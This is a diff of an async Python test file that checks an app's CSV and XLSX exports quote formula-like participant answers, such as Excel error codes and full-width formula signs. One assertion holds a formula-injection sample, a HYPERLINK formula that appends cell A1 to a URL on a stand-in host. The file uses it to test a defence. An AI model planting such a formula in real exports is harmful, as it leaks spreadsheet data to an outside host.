@@ -259,11 +259,40 @@ async def test_csv_zip_holds_the_same_sheets_and_the_codebook(services, tmp_path
     assert all(data.startswith(b"\xef\xbb\xbf") for data in raw.values())
     answers = list(csv.reader(io.StringIO(raw["answers.csv"].decode("utf-8-sig"))))
     # A spreadsheet opening the csv must not run a participant's formula: it gets a leading apostrophe.
-    assert [r[10] for r in answers[1:3]] == ['\'=HYPERLINK("http://x.example/?"&A1,"see")', "#REF!"]
+    assert [r[10] for r in answers[1:3]] == ['\'=HYPERLINK("http://x.example/?"&A1,"see")', "'#REF!"]
     codes = list(csv.reader(io.StringIO(raw["codebook.csv"].decode("utf-8-sig"))))
     assert ["Round r1", "size", "", "-9", "Not sure"] in codes  # a negative number is no formula
     facts = dict(r[:2] for r in csv.reader(io.StringIO(raw["about.csv"].decode("utf-8-sig"))) if len(r) > 1)
-    assert facts["csv_formula_like_texts_quoted"] == "2"  # in Answers and in the round sheet
+    assert facts["csv_formula_like_texts_quoted"] == "4"  # each in Answers and in the round sheet
+
+
+# Excel reads these as error values, or (full-width signs) as the start of a formula, when it opens a csv.
+SPREADSHEET_WORDS = ["#N/A", "#DIV/0!", "#REF!", "#NULL!", "#VALUE!", "#NAME?", "#NUM!", "#GETTING_DATA"]
+SPREADSHEET_WORDS += ["#SPILL!", "#CALC!", "#n/a", "＝1+1", "＋SUM(A1)", "－A1", "＠SUM(A1)"]
+
+
+async def test_error_codes_and_full_width_formula_signs_are_quoted_in_the_csv_and_xlsx(services, tmp_path):
+    await services.rounds.open_round("r1", actor="cli")
+    for n in range(0, len(SPREADSHEET_WORDS), 3):
+        await join(services, 910 + n)
+        await services.answering.begin(910 + n, "r1")
+        for k, text in enumerate(SPREADSHEET_WORDS[n : n + 3]):
+            await services.answering.receive_text(910 + n, text, f"m{n}-{k}")
+    await services.answering.receive_text(910, "#N/A is what the rota said", "m-plain")  # only a whole code
+    out = tmp_path / "book.zip"
+    await export_workbook(services.env, out, format="csv")
+    with zipfile.ZipFile(out) as archive:
+        answers = list(csv.reader(io.StringIO(archive.read("answers.csv").decode("utf-8-sig"))))
+        about_rows = list(csv.reader(io.StringIO(archive.read("about.csv").decode("utf-8-sig"))))
+    typed = sorted(r[10] for r in answers[1:])
+    assert typed == sorted(["'" + w for w in SPREADSHEET_WORDS] + ["#N/A is what the rota said"])
+    facts = dict(r[:2] for r in about_rows if len(r) > 1)
+    assert facts["csv_formula_like_texts_quoted"] == str(2 * len(SPREADSHEET_WORDS))  # Answers and Round r1
+    book = tmp_path / "book.xlsx"
+    await export_workbook(services.env, book)
+    cells = {row[10].value: row[10] for row in load_workbook(book)["Answers"].iter_rows(min_row=2)}
+    assert all(cells[w].data_type == "s" and cells[w].quotePrefix for w in SPREADSHEET_WORDS)
+    assert not cells["#N/A is what the rota said"].quotePrefix
 
 
 async def test_one_round_or_answers_since_a_date(services, clock, tmp_path):
